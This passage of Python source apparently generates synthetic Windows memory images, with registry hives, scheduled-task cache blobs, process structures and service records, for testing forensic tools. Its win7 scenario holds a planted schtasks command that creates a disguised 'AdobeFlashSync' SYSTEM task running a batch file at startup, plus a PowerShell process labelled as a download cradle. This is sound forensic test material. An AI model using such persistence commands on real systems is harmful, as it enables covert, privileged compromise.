        Proc(252, 4, "smss.exe", "2019-03-05T07:58:02Z", r"\SystemRoot\System32\smss.exe", r"C:\Windows\System32\smss.exe", session=None, threads=2),
        Proc(340, 328, "csrss.exe", "2019-03-05T07:58:05Z", r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=winsrv:ConServerDllInitialization,2 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16", r"C:\Windows\system32\csrss.exe", threads=9),
        Proc(392, 328, "wininit.exe", "2019-03-05T07:58:05Z", "wininit.exe", r"C:\Windows\system32\wininit.exe", threads=3),
        Proc(488, 392, "services.exe", "2019-03-05T07:58:06Z", r"C:\Windows\system32\services.exe", r"C:\Windows\system32\services.exe", threads=8),
        Proc(496, 392, "lsass.exe", "2019-03-05T07:58:06Z", r"C:\Windows\system32\lsass.exe", r"C:\Windows\system32\lsass.exe", threads=7),
        Proc(620, 488, "svchost.exe", "2019-03-05T07:58:07Z", sv + " -k DcomLaunch", sv, threads=10),
        Proc(900, 488, "svchost.exe", "2019-03-05T07:58:09Z", sv + " -k netsvcs", sv, threads=35),
        Proc(1788, 488, "taskhost.exe", "2019-03-05T07:59:30Z", r'"taskhost.exe"', r"C:\Windows\system32\taskhost.exe", session=1, sid=USER_SID, threads=8),
        Proc(1820, 1800, "explorer.exe", "2019-03-05T07:59:31Z", r"C:\Windows\Explorer.EXE", r"C:\Windows\Explorer.EXE", session=1, sid=USER_SID, threads=30),
        Proc(2412, 900, "taskeng.exe", "2019-03-05T08:15:00Z", r"taskeng.exe {7A3F9C21-5B4E-4D8A-9E6F-1C2B3D4E5F60} S-1-5-18:NT AUTHORITY\System:Service:",
             r"C:\Windows\system32\taskeng.exe", threads=5),
        Proc(2520, 2412, "cmd.exe", "2019-03-05T08:15:01Z", r'C:\Windows\system32\cmd.exe /c "C:\Windows\Temp\bk.bat"', r"C:\Windows\system32\cmd.exe", threads=1),
        Proc(2536, 2412, "powershell.exe", "2019-03-05T08:15:02Z", WIN7_CRADLE_COMMAND,
             r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", threads=7),
        Proc(2000, 1820, "schtasks.exe", "2019-03-05T08:10:00Z",
             r'schtasks.exe /create /tn AdobeFlashSync /tr "cmd.exe /c C:\Windows\Temp\bk.bat" /sc onstart /ru SYSTEM /f',
             r"C:\Windows\system32\schtasks.exe", session=1, sid=USER_SID, threads=0, exit="2019-03-05T08:10:01Z",
             linked=False),
    ]
    tasks = [
        Task(r"\AdobeFlashSync", "{3DC1692F-C720-4D79-BC69-9032ABF0CB22}",
             [("exec", "cmd.exe", r'/c "C:\Windows\Temp\bk.bat"', "")], "LocalSystem", SYSTEM_SID,
             "2019-03-05T08:10:01Z", "2019-03-05T08:15:00Z", author=r"WIN7-PC\admin"),
        Task(r"\Microsoft\Windows\Defrag\ScheduledDefrag", "{6C4A1E2B-3D5F-4A7B-8C9D-0E1F2A3B4C5D}",
             [("exec", r"%windir%\system32\defrag.exe", "-c", "")], "LocalSystem", SYSTEM_SID,
             "2009-07-14T04:53:53Z", "2019-03-01T01:00:00Z"),
    ]
    return Scenario("win7", True, uuid.UUID("3844dbb9-2017-4967-be7a-a4a2c20430fa"), 2, (6, 1, 7601, 17514),
                    0xFFFFF80002A00000, 0xFFFFFA8000C00000, "2019-03-05T07:58:00Z", procs, tasks, False, WIN7_HOSTNAME)


SCENARIOS = {"win10": _win10, "win7": _win7}


def _extra_processes(scenario: Scenario, count: int) -> list[Proc]:
    """Deterministic filler processes (service hosts and user programs, some exited) for large images."""
    services = next(p.pid for p in scenario.processes if p.name == "services.exe")
    explorer = next(p.pid for p in scenario.processes if p.name == "explorer.exe")
    names = [("svchost.exe", r"C:\Windows\system32\svchost.exe -k LocalService -p -s Svc{}"),
             ("notepad.exe", r'"C:\Windows\system32\notepad.exe" C:\Users\thin0\Documents\note{}.txt'),
             ("msedge.exe", r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --renderer-client-id={}'),
             ("OneDrive.exe", r'"C:\Users\thin0\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background /id {}')]
    day = scenario.boot[:10]
    out = []
    for i in range(count):
        name, cmd = names[i % len(names)]
        parent = services if name == "svchost.exe" else explorer
        exe = cmd.split('"')[1] if cmd.startswith('"') else cmd.split(" ")[0]
        minute = 20 + (i // 60) % 40
        exited = i % 7 == 3
        out.append(Proc(10000 + 4 * i, parent, name, f"{day}T10:{minute:02d}:{i % 60:02d}Z", cmd.format(i), exe,
                        session=0 if parent == services else 1, sid=SYSTEM_SID if parent == services else USER_SID,
                        threads=0 if exited else 3, exit=f"{day}T11:{minute:02d}:{i % 60:02d}Z" if exited else None,
                        linked=not exited))
    return out


# ---------------------------------------------------------------------------------------------------
# Registry: a regf serializer (cells as Windows lays them out) and the TaskCache blobs
# ---------------------------------------------------------------------------------------------------

@dataclass
class Key:
    name: str
    written: str
    values: list[tuple] = field(default_factory=list)  # (name, type, bytes)
    children: dict[str, "Key"] = field(default_factory=dict)

    def sub(self, path: str, written: str) -> "Key":
        key = self
        for part in path.split("\\"):
            key = key.children.setdefault(part.lower(), Key(part, written))
        return key


REG_SZ, REG_BINARY, REG_DWORD = 1, 3, 4


def _sz(text: str) -> tuple:
    return REG_SZ, _utf16z(text)


def _dword(value: int) -> tuple:
    return REG_DWORD, struct.pack("<I", value)


def _lh_hash(name: str) -> int:
    h = 0
    for ch in name.upper():
        h = (h * 37 + ord(ch)) & 0xFFFFFFFF
    return h


class _Bins:
    """Cell allocator over 4 KiB hive bins; offsets are cell indexes (relative to the first bin)."""

    def __init__(self, stamp: int):
        self.buf = bytearray()
        self.stamp = stamp
        self._bin_start = 0
        self._bin_end = 0

    def _new_bin(self, need: int) -> None:
        size = (need + 0x20 + PAGE - 1) // PAGE * PAGE
        start = len(self.buf)
        self.buf.extend(bytes(size))
        struct.pack_into("<4sIIQQI", self.buf, start, b"hbin", start, size, 0, self.stamp, 0)
        self._bin_start, self._bin_end = start, start + size
        self._free_at = start + 0x20
        self._close_free()

    def _close_free(self) -> None:
        if self._bin_end > self._free_at:
            struct.pack_into("<i", self.buf, self._free_at, self._bin_end - self._free_at)

    def alloc(self, size: int) -> int:
        size = (size + 4 + 7) & ~7
        if not self.buf or self._free_at + size > self._bin_end:
            self._new_bin(size)
        offset = self._free_at
        struct.pack_into("<i", self.buf, offset, -size)
        self._free_at += size
        self._close_free()
        return offset

    def put(self, offset: int, blob: bytes) -> None:
        self.buf[offset + 4:offset + 4 + len(blob)] = blob


def _self_relative_sd(owner: str, group: str, aces: list[tuple[int, str]]) -> bytes:
    """A self-relative security descriptor with a DACL of ACCESS_ALLOWED ACEs (mask, sid)."""
    ace_blobs = []
    for mask, sid in aces:
        body = struct.pack("<I", mask) + _sid_bytes(sid)
        ace_blobs.append(struct.pack("<BBH", 0, 0, 4 + len(body)) + body)
    dacl_body = b"".join(ace_blobs)
    dacl = struct.pack("<BBHHH", 2, 0, 8 + len(dacl_body), len(aces), 0) + dacl_body
    o, g = _sid_bytes(owner), _sid_bytes(group)
    head = 20
    return struct.pack("<BBHIIII", 1, 0, 0x8004, head, head + len(o), 0, head + len(o) + len(g)) + o + g + dacl


HIVE_SD = _self_relative_sd("S-1-5-32-544", SYSTEM_SID, [(0xF003F, "S-1-5-32-544"), (0xF003F, SYSTEM_SID), (0x20019, "S-1-5-32-545")])
TASK_SD = _self_relative_sd("S-1-5-32-544", SYSTEM_SID, [(0x1F019F, "S-1-5-32-544"), (0x1F019F, SYSTEM_SID), (0x1200A9, "S-1-5-11")])


def serialize_hive(root: Key, file_name: str, stamp: int) -> tuple[bytes, bytes]:
    """Return (base block, hive bins) of a regf hive holding ``root``."""
    bins = _Bins(stamp)
    sk = bins.alloc(0x14 + len(HIVE_SD))
    count = [0]

    def emit(key: Key, parent: int, is_root: bool) -> int:
        count[0] += 1
        name = key.name.encode("latin-1")
        nk = bins.alloc(0x4C + len(name))
        vk_offsets = []
        for vname, vtype, data in key.values:
            vn = vname.encode("latin-1")
            vk = bins.alloc(0x14 + len(vn))
            if len(data) <= 4:
                length, ref = len(data) | 0x80000000, int.from_bytes(data.ljust(4, b"\0"), "little")
            else:
                ref = bins.alloc(len(data))
                bins.put(ref, data)
                length = len(data)
            bins.put(vk, struct.pack("<2sHIIIHH", b"vk", len(vn), length, ref, vtype, 1 if vn else 0, 0) + vn)
            vk_offsets.append(vk)
        value_list = 0xFFFFFFFF
        if vk_offsets:
            value_list = bins.alloc(4 * len(vk_offsets))
            bins.put(value_list, struct.pack(f"<{len(vk_offsets)}I", *vk_offsets))
        children = sorted(key.children.values(), key=lambda k: k.name.upper())
        child_offsets = [emit(child, nk, False) for child in children]
        subkeys = 0xFFFFFFFF
        if child_offsets:
            subkeys = bins.alloc(4 + 8 * len(child_offsets))
            body = b"".join(struct.pack("<II", off, _lh_hash(c.name)) for off, c in zip(child_offsets, children))
            bins.put(subkeys, struct.pack("<2sH", b"lh", len(child_offsets)) + body)
        max_name = max((len(c.name) * 2 for c in children), default=0)
        max_vname = max((len(v[0]) * 2 for v in key.values), default=0)
        max_data = max((len(v[2]) for v in key.values), default=0)
        flags = 0x2C if is_root else 0x20  # HIVE_ENTRY|NO_DELETE|COMP_NAME for the root, COMP_NAME otherwise
        bins.put(nk, struct.pack("<2sHQIIIIIIIIIIIIIIIHH", b"nk", flags, _filetime(key.written), 0,
                                 0xFFFFFFFF if is_root else parent, len(child_offsets), 0, subkeys, 0xFFFFFFFF,
                                 len(vk_offsets), value_list, sk, 0xFFFFFFFF, max_name, 0, max_vname, max_data, 0,
                                 len(name), 0) + name)
        return nk

    root_cell = emit(root, 0, True)
    bins.put(sk, struct.pack("<2sHIIII", b"sk", 0, sk, sk, count[0], len(HIVE_SD)) + HIVE_SD)
    base = bytearray(PAGE)
    struct.pack_into("<4sIIQIIIIIII", base, 0, b"regf", 1, 1, stamp, 1, 5, 0, 1, root_cell, len(bins.buf), 1)
    tail = file_name[-31:].encode("utf-16-le")
    base[0x30:0x30 + len(tail)] = tail
    checksum = 0
    for (dword,) in struct.iter_unpack("<I", bytes(base[:0x1FC])):
        checksum ^= dword
    checksum = {0: 1, 0xFFFFFFFF: 0xFFFFFFFE}.get(checksum, checksum)
    struct.pack_into("<I", base, 0x1FC, checksum)
    return bytes(base), bytes(bins.buf)


def _bstr(text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return struct.pack("<I", len(raw)) + raw


def _aligned(raw: bytes) -> bytes:
    """Pad to a multiple of 8 with the 0x48 filler Windows writes."""
    return raw + b"H" * (-len(raw) % 8)


def _aligned_bstr(text: str) -> bytes:
    raw = (text + "\0").encode("utf-16-le") if text else b""
    return _aligned(struct.pack("<I", len(raw))) + _aligned(raw)


def actions_blob(task: Task, version: int) -> bytes:
    """Actions value: u16 version, [bstr context for v2/v3], then each action (magic, id, fields)."""
    out = struct.pack("<H", version)
    if version >= 2:
        out += _bstr(task.principal)
    for action in task.actions:
        if action[0] == "exec":
            _, command, arguments, workdir = action
            out += struct.pack("<H", 0x6666) + _bstr("") + _bstr(command) + _bstr(arguments) + _bstr(workdir)
            if version >= 3:
                out += struct.pack("<H", 0)
        else:
            _, clsid, data = action
            out += struct.pack("<H", 0x7777) + _bstr("") + uuid.UUID(clsid).bytes_le + _bstr(data)
    return out


def triggers_blob(task: Task, version: int) -> bytes:
    """Triggers value: header, JobBucket (flags, crc32, principal, user, settings), one trigger."""
    start = _filetime(task.registered)
    tstime_unset = b"\0" * 16
    flags = 0x42412138 | (0x800000 if task.hidden else 0) | (0x20000 if task.user_sid == SYSTEM_SID else 0)
    out = _aligned(bytes([version])) + struct.pack("<B7sQ", 1, b"\x07\x05\x00\x00\x00\x0e\x00", start) + tstime_unset
    out += _aligned(struct.pack("<I", flags)) + _aligned(struct.pack("<I", zlib.crc32(task.path.encode("utf-16-le"))))
    if version >= 0x16:
        out += _aligned_bstr(task.principal)
    if version >= 0x17:
        out += _aligned_bstr("")
    sid = _sid_bytes(task.user_sid)
    out += _aligned(b"\0") + _aligned(b"\0") + _aligned(struct.pack("<I", 5 if task.user_sid.count("-") <= 4 else 1))
    out += _aligned(struct.pack("<I", len(sid))) + _aligned(sid) + _aligned_bstr("")
    settings = struct.pack("<IIIIIII16s", 600, 3600, 259200, 0, 7, 0, 0, b"\0" * 16)
    out += _aligned(struct.pack("<I", len(settings))) + _aligned(settings)
    magic = 0xAAAA if task.trigger == "logon" else 0xFFFF
    generic = _aligned(struct.pack("<I", magic)) + tstime_unset + tstime_unset
    generic += struct.pack("<IIIIIB3s", 0, 0, 0, 0, 0, 0, b"HHH") + _aligned(b"\x01") + b"H" * 8
    if version >= 0x16:
        generic += _aligned(_bstr(""))
    if task.trigger == "logon":
        generic += _aligned(b"\x01")  # any user: skip_user
    return out + generic


def dynamic_info_blob(task: Task, win7: bool) -> bytes:
    last = _filetime(task.last_run) if task.last_run else 0
    out = struct.pack("<IQQII", 3, _filetime(task.registered), last, 0, 0)
    return out if win7 else out + struct.pack("<Q", last + 12_000_000 if last else 0)


def software_hive(scenario: Scenario) -> Key:
    """The SOFTWARE hive: CurrentVersion facts, CLSIDs of COM handlers, and the TaskCache."""
    root = Key("ROOT", scenario.boot)
    cv = root.sub(r"Microsoft\Windows NT\CurrentVersion", scenario.boot)
    cv.values += [("ProductName", *_sz("Windows 7 Professional" if scenario.win7 else "Windows 10 Pro")),
                  ("CurrentBuild", *_sz(str(scenario.pe_version[2])))]
    cache = r"Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"
    for sub in ("Tree", "Tasks", "Boot", "Logon", "Plain"):
        root.sub(f"{cache}\\{sub}", scenario.boot)
    actions_version = 1 if scenario.win7 else 3
    triggers_version = 0x15 if scenario.win7 else 0x17
    for task in scenario.tasks:
        tree = root.sub(f"{cache}\\Tree{task.path}", task.registered)
        tree.values.append(("Id", *_sz(task.guid)))
        tree.values.append(("Index", *_dword(task.index)))
        if task.sd:
            tree.values.append(("SD", REG_BINARY, TASK_SD))
        key = root.sub(f"{cache}\\Tasks\\{task.guid}", task.registered)
        xml_stand_in = f"<Task><URI>{task.path}</URI></Task>".encode("utf-16-le")
        key.values += [("Path", *_sz(task.path)), ("URI", *_sz(task.path)), ("Author", *_sz(task.author)),
                       ("Date", *_sz(task.registered[:19])), ("Hash", REG_BINARY, hashlib.sha256(xml_stand_in).digest()),
                       ("Schema", *_dword(0x10002 if scenario.win7 else 0x10004)),
                       ("SecurityDescriptor", *_sz("D:(A;;FA;;;BA)(A;;FA;;;SY)(A;;FRFX;;;AU)")),
                       ("Triggers", REG_BINARY, triggers_blob(task, triggers_version)),
                       ("Actions", REG_BINARY, actions_blob(task, actions_version)),
                       ("DynamicInfo", REG_BINARY, dynamic_info_blob(task, scenario.win7))]
        root.sub(f"{cache}\\{'Logon' if task.trigger == 'logon' else 'Boot'}\\{task.guid}", task.registered)
        for action in task.actions:
            if action[0] == "com":
                inproc = root.sub(f"Classes\\CLSID\\{action[1]}\\InprocServer32", scenario.boot)
                inproc.values += [("", *_sz(r"%systemroot%\system32\wininet.dll")), ("ThreadingModel", *_sz("Both"))]
    return root


def system_hive(scenario: Scenario) -> Key:
    root = Key("ROOT", scenario.boot)
    select = root.sub("Select", scenario.boot)
    select.values += [("Current", *_dword(1)), ("Default", *_dword(1))]
    root.sub(r"ControlSet001\Control\ComputerName\ComputerName", scenario.boot).values.append(
        ("ComputerName", *_sz(scenario.hostname)))
    root.sub(r"ControlSet001\Services\Schedule", scenario.boot).values += [
        ("ImagePath", *_sz(r"%systemroot%\system32\svchost.exe -k netsvcs" + ("" if scenario.win7 else " -p"))), ("Start", *_dword(2))]
    return root


# ---------------------------------------------------------------------------------------------------
# The image builder
# ---------------------------------------------------------------------------------------------------

class _Builder:
    def __init__(self, scenario: Scenario):
        self.sc = scenario
        self.win7 = scenario.win7
        self.lay = Layout(scenario.win7)
        self.mem = Memory()
        self.mem.put(KERNEL_DTB, bytes(PAGE))
        self.mem.put(KERNEL_DTB + SELF_MAP_INDEX * 8, struct.pack("<Q", KERNEL_DTB | 0x63))
        self.kbase = scenario.kernel_base
        self.pool = Bump(scenario.pool_base)
        self.proc_pool = Bump(scenario.pool_base + 0x4000000, PAGE)
        self.symbols: dict[str, int] = {}
        self.process_dtbs: dict[int, int] = {}
        self.truth: dict = {"scenario": scenario.name, "processes": [], "hives": []}

    # small helpers -------------------------------------------------------------------------------
    def kwrite(self, va: int, blob: bytes) -> None:
        self.mem.write(KERNEL_DTB, va, blob)

    def kput(self, type_name: str, base: int, field_name: str, fmt: str, value) -> None:
        self.kwrite(base + self.lay.off(type_name, field_name), struct.pack(fmt, value))

    def unicode_string(self, at: int, text: str, buffer_va: int, dtb: int = KERNEL_DTB, user: bool = False) -> None:
        raw = text.encode("utf-16-le")
        self.mem.write(dtb, buffer_va, raw + b"\0\0", user)
        self.mem.write(dtb, at, struct.pack("<HH4xQ", len(raw), len(raw) + 2, _canon(buffer_va)), user)

    def kstring(self, at: int, text: str) -> None:
        self.unicode_string(at, text, self.pool.take(len(text) * 2 + 2))

    # kernel image, shared data, object types ----------------------------------------------------
    def kernel(self) -> None:
        header = bytearray(PAGE)
        header[0:2] = b"MZ"
        struct.pack_into("<I", header, 0x3C, 0x100)
        header[0x100:0x104] = b"PE\0\0"
        self.kwrite(self.kbase, bytes(header))
        rsds = b"RSDS" + self.sc.pdb_guid.bytes_le + struct.pack("<I", self.sc.pdb_age) + b"ntkrnlmp.pdb\0"
        self.kwrite(self.kbase + 0x1000, rsds)
        data_rva = 0xC1E000 if not self.win7 else 0x2C7000
        self.symbols = {"PsActiveProcessHead": data_rva + 0xA0, "CmpHiveListHead": data_rva + 0xC0,
                        "PsLoadedModuleList": data_rva + 0xD0, "ObTypeIndexTable": data_rva + 0x100}
        self.kwrite(self.kbase + data_rva, bytes(PAGE))
        if not self.win7:
            self.symbols["ObHeaderCookie"] = data_rva + 0xE0
            self.kwrite(self.kbase + self.symbols["ObHeaderCookie"], bytes([0x5B]))
        modules = self.kbase + self.symbols["PsLoadedModuleList"]
        self.kwrite(modules, struct.pack("<QQ", _canon(modules), _canon(modules)))
        kuser = self.mem.alloc_page()
        self.mem.map(KERNEL_DTB, KUSER_KERNEL, kuser, False)
        self.mem.map(KERNEL_DTB, KUSER_USER, kuser, True)
        self.kuser_pa = kuser
        major, minor = (6, 1) if self.win7 else (10, 0)
        self.mem.put(kuser + self.lay.off("_KUSER_SHARED_DATA", "NtMajorVersion"), struct.pack("<II", major, minor))
        table = [0, 0xBAD0B0B0]
        for index, name in enumerate(["Type", "Directory", "SymbolicLink", "Token", "Job", "Process", "Thread"], start=2):
            obj = self.pool.take(self.lay.size("_OBJECT_TYPE"))
            self.kwrite(obj, bytes(self.lay.size("_OBJECT_TYPE")))
            self.kwrite(obj + self.lay.off("_OBJECT_TYPE", "Index"), bytes([index]))
            self.kstring(obj + self.lay.off("_OBJECT_TYPE", "Name"), name)
            table.append(_canon(obj))
        self.process_type_index = 7
        self.kwrite(self.kbase + self.symbols["ObTypeIndexTable"], struct.pack(f"<{len(table)}Q", *table))
        # low stub (_PROCESSOR_START_BLOCK): volatility's first kernel-base hint
        stub = bytearray(PAGE)
        struct.pack_into("<Q", stub, 0, 0x00000001000600E9)
        struct.pack_into("<Q", stub, 0x70, _canon(self.kbase + 0x1000))
        struct.pack_into("<Q", stub, 0xA0, KERNEL_DTB)
        self.mem.put(0x1000, bytes(stub))

    # processes ------------------------------------------------------------------------------------
    def processes(self, procs: list[Proc]) -> None:
        lay = self.lay
        sessions: dict[int, int] = {}
        for sid in sorted({p.session for p in procs if p.session is not None}):
            obj = self.pool.take(lay.size("_MM_SESSION_SPACE"))
            self.kwrite(obj, bytes(lay.size("_MM_SESSION_SPACE")))
            self.kput("_MM_SESSION_SPACE", obj, "SessionId", "<I", sid)
            sessions[sid] = obj
        eprocs = {}
        body_offset = 0x80
        ep_size = lay.size("_EPROCESS")
        for proc in procs:
            page = self.proc_pool.take(PAGE)
            block = body_offset + ep_size
            tag = b"Pro\xe3" if self.win7 else b"Proc"
            self.kwrite(page, struct.pack("<BBBB4sQ", 0, 0, (block + 15) // 16, 2, tag, 0))
            header = page + body_offset - lay.off("_OBJECT_HEADER", "Body")
            type_index = self.process_type_index
            if not self.win7:
                type_index ^= 0x5B ^ ((_canon(header) >> 8) & 0xFF)
            self.kwrite(header, struct.pack("<qq8xBBBB", 3, 1, type_index, 0, 0x09, 0))  # CREATOR|QUOTA info
            eprocs[proc.pid] = page + body_offset
        head = self.kbase + self.symbols["PsActiveProcessHead"]
        links_off = lay.off("_EPROCESS", "ActiveProcessLinks")
        ring = [head] + [eprocs[p.pid] + links_off for p in procs if p.linked]
        for i, entry in enumerate(ring):
            self.kwrite(entry, struct.pack("<QQ", _canon(ring[(i + 1) % len(ring)]), _canon(ring[i - 1])))
        for proc in procs:
            self._eprocess(proc, eprocs[proc.pid], sessions)
        self.eprocs = eprocs

    def _eprocess(self, proc: Proc, ep: int, sessions: dict[int, int]) -> None:
        lay, E = self.lay, "_EPROCESS"
        if proc.pid == 4:
            dtb = KERNEL_DTB
        else:
            dtb = self.mem.alloc_page()
            self.mem.put(dtb + SELF_MAP_INDEX * 8, struct.pack("<Q", dtb | 0x63))
            self.mem.map(dtb, KUSER_USER, self.kuser_pa, True)
        self.process_dtbs[proc.pid] = dtb
        self.kwrite(ep + lay.off("_KPROCESS", "DirectoryTableBase"), struct.pack("<Q", dtb))
        for head in (ep + lay.off("_KPROCESS", "ThreadListHead"), ep + lay.off(E, "ThreadListHead")):
            self.kwrite(head, struct.pack("<QQ", _canon(head), _canon(head)))
        if not proc.linked:
            links = ep + lay.off(E, "ActiveProcessLinks")
            self.kwrite(links, struct.pack("<QQ", _canon(links), _canon(links)))
        self.kput(E, ep, "UniqueProcessId", "<Q", proc.pid)
        self.kput(E, ep, "InheritedFromUniqueProcessId", "<Q", proc.ppid)
        self.kput(E, ep, "CreateTime", "<Q", _filetime(proc.create))
        self.kput(E, ep, "ExitTime", "<Q", _filetime(proc.exit) if proc.exit else 0)
        self.kput(E, ep, "ActiveThreads", "<I", proc.threads)
        self.kwrite(ep + lay.off(E, "ImageFileName"), proc.name.encode("latin-1")[:14].ljust(15, b"\0"))
        self.kput(E, ep, "Session", "<Q", _canon(sessions[proc.session]) if proc.session is not None else 0)
        table = self.pool.take(lay.size("_HANDLE_TABLE"))
        self.kwrite(table, bytes(lay.size("_HANDLE_TABLE")))
        if self.win7:
            self.kput("_HANDLE_TABLE", table, "HandleCount", "<I", 20 + proc.threads * 23 if not proc.exit else 0)
        self.kput(E, ep, "ObjectTable", "<Q", _canon(table))
        self.kput(E, ep, "Token", "<Q", _canon(self._token(proc.sid)) | 0x7)
        if proc.image:
            device = "\\Device\\HarddiskVolume3" + proc.image[2:]
            audit = self.pool.take(0x10)
            self.kstring(audit, device)
            self.kput(E, ep, "SeAuditProcessCreationInfo", "<Q", _canon(audit))
        peb = 0
        if proc.cmdline is not None:
            peb = self._peb(proc, dtb)
        self.kput(E, ep, "Peb", "<Q", peb)
        self.truth["processes"].append({"pid": proc.pid, "ppid": proc.ppid, "name": proc.name, "eprocess": _canon(ep),
                                        "dtb": dtb, "cmdline": proc.cmdline, "create": proc.create, "exit": proc.exit,
                                        "linked": proc.linked, "session": proc.session, "sid": proc.sid})

    def _token(self, sid: str) -> int:
        lay = self.lay
        token = self.pool.take(lay.size("_TOKEN"))
        self.kwrite(token, bytes(lay.size("_TOKEN")))
        sids = [sid, "S-1-1-0", "S-1-5-32-545" if sid != SYSTEM_SID else "S-1-5-32-544"]
        array = self.pool.take(0x10 * len(sids))
        for i, text in enumerate(sids):
            blob = _sid_bytes(text)
            at = self.pool.take(len(blob), 4)
            self.kwrite(at, blob)
            self.kwrite(array + 0x10 * i, struct.pack("<QI4x", _canon(at), 0x7 if i else 0))
        self.kput("_TOKEN", token, "UserAndGroupCount", "<I", len(sids))
        self.kput("_TOKEN", token, "UserAndGroups", "<Q", _canon(array))
        self.kwrite(token + lay.off("_TOKEN", "Privileges"), struct.pack("<QQQ", 0x1FFFFFFFFC, 0x1FF2FFFFBC, 0x1FF2FFFFBC))
        return token

    def _peb(self, proc: Proc, dtb: int) -> int:
        lay, P = self.lay, "_RTL_USER_PROCESS_PARAMETERS"
        peb = 0x000000A000000000 + proc.pid * 0x100000
        params = peb + 0x10000
        image_base = 0x00007FF600000000 + proc.pid * 0x10000
        self.mem.write(dtb, peb, bytes(lay.size("_PEB")), True)
        self.mem.write(dtb, peb + lay.off("_PEB", "ImageBaseAddress"), struct.pack("<QQQ", image_base, 0, params), True)
        size = lay.size(P)
        self.mem.write(dtb, params, struct.pack("<III", size, size, 1) + bytes(size - 12), True)
        heap = Bump(params + size)
        image = proc.image or proc.cmdline.split(" ")[0]
        for name, text in (("ImagePathName", image), ("CommandLine", proc.cmdline),
                           ("WindowTitle", image), ("DllPath", "")):
            self.unicode_string(params + lay.off(P, name), text, heap.take(len(text) * 2 + 2, 8), dtb, True)
        env = "".join(f"{k}={v}\0" for k, v in (
            ("ComSpec", r"C:\Windows\system32\cmd.exe"), ("PATH", r"C:\Windows\system32;C:\Windows;C:\Windows\System32\WindowsPowerShell\v1.0\\"),
            ("SystemRoot", r"C:\Windows"), ("TEMP", r"C:\Windows\TEMP"), ("USERNAME", "SYSTEM" if proc.sid == SYSTEM_SID else "thin0"),
            ("windir", r"C:\Windows"))) + "\0"
        env_raw = env.encode("utf-16-le")
        env_va = heap.take(len(env_raw), 16)
        self.mem.write(dtb, env_va, env_raw, True)
        self.mem.write(dtb, params + lay.off(P, "Environment"), struct.pack("<Q", env_va), True)
        self.mem.write(dtb, params + lay.off(P, "EnvironmentSize"), struct.pack("<Q", len(env_raw)), True)
        return peb

    # Service Control Manager ------------------------------------------------------------------------
    SCM_REGION = 0x000001F000000000  # services.exe's heap holding the service database (one VAD)

    def services(self, procs: list[Proc]) -> None:
        """The SCM's service records in services.exe (what volatility's svcscan finds): a ``serH`` header
        pointing to the newest ``_SERVICE_RECORD``, older ones chained through PrevEntry, each running
        service with its ``_SERVICE_PROCESS`` (binary path, PID); and the one VAD that covers them."""
        services = next(p for p in procs if p.name == "services.exe")
        dtb, region = self.process_dtbs[services.pid], self.SCM_REGION
        self.mem.write(dtb, region, bytes(0x3000), True)
        heap = Bump(region + 0x40)
        strings = Bump(region + 0x2000)

        def wstr(text: str) -> int:
            at = strings.take(len(text) * 2 + 2, 8)
            self.mem.write(dtb, at, _utf16z(text), True)
            return at

        # (offsets) Win10 19041 x64 / Vista..7 x64, as in volatility's services-*.json
        if self.win7:
            rec = {"size": 0x88, "PrevEntry": 0, "ServiceName": 8, "DisplayName": 0x10, "Order": 0x18, "Tag": 0x20,
                   "ServiceProcess": 0x28, "Type": 0x30, "State": 0x34, "Start": 0x4C}
            sp = {"size": 0x20, "BinaryPath": 0x10, "ProcessId": 0x18}
        else:
            rec = {"size": 0x140, "PrevEntry": 0x10, "Order": 0x20, "Start": 0x24, "ServiceName": 0x38, "DisplayName": 0x40,
                   "Type": 0x48, "State": 0x4C, "ServiceProcess": 0x128}
            sp = {"size": 0x30, "BinaryPath": 0x18, "ProcessId": 0x28}
        wanted = [("DcomLaunch", "DCOM Server Process Launcher", "-k DcomLaunch"), ("EventLog", "Windows Event Log", "EventLog"),
                  ("Schedule", "Task Scheduler", "Schedule")]
        previous = 0
        for order, (name, display, marker) in enumerate(wanted, start=1):
            host = next((p for p in procs if p.name == "svchost.exe" and p.cmdline and
                         (marker in p.cmdline or (name == "Schedule" and p.cmdline.endswith("-k netsvcs")))), None)
            if host is None:
                continue
            record = heap.take(rec["size"], 16)
            blob = bytearray(rec["size"])
            struct.pack_into("<Q", blob, rec["PrevEntry"], previous)
            struct.pack_into("<Q", blob, rec["ServiceName"], wstr(name))
            struct.pack_into("<Q", blob, rec["DisplayName"], wstr(display))
            struct.pack_into("<I", blob, rec["Order"], order)
            if "Tag" in rec:
                blob[rec["Tag"]:rec["Tag"] + 4] = b"sErv"
            struct.pack_into("<IiI", blob, rec["Type"], 0x20, 4, 0)  # SERVICE_WIN32_SHARE_PROCESS, SERVICE_RUNNING
            struct.pack_into("<i", blob, rec["Start"], 2)  # SERVICE_AUTO_START
            process = heap.take(sp["size"], 16)
            pblob = bytearray(sp["size"])
            struct.pack_into("<Q", pblob, sp["BinaryPath"], wstr(host.cmdline.replace(r"C:\Windows", r"%SystemRoot%", 1)))
            struct.pack_into("<I", pblob, sp["ProcessId"], host.pid)
            self.mem.write(dtb, process, bytes(pblob), True)
            struct.pack_into("<Q", blob, rec["ServiceProcess"], process)
            self.mem.write(dtb, record, bytes(blob), True)
            previous = record
        self.mem.write(dtb, region, b"serH" + bytes(12) + struct.pack("<Q", previous), True)
        # the VAD: a pool block tagged VadS, its node covering the region (Win7: right child of the sentinel)
        block = self.pool.take(0x10 + self.lay.size("_MMVAD_SHORT"), 16)
        self.kwrite(block, struct.pack("<BBBB4sQ", 0, 0, 5, 2, b"VadS", 0))
        vad = block + 0x10
        first, last = region >> 12, (region + 0x3000 - 1) >> 12
        if self.win7:
            self.kwrite(vad, struct.pack("<QQQQQ", 0, 0, 0, first, last))
        else:
            self.kwrite(vad, struct.pack("<QQQIIBB", 0, 0, 0, first & 0xFFFFFFFF, last & 0xFFFFFFFF, first >> 32, last >> 32))
        vad_root = self.eprocs[services.pid] + self.lay.off("_EPROCESS", "VadRoot")
        if self.win7:
            self.kwrite(vad_root + 0x10, struct.pack("<Q", _canon(vad)))  # BalancedRoot.RightChild
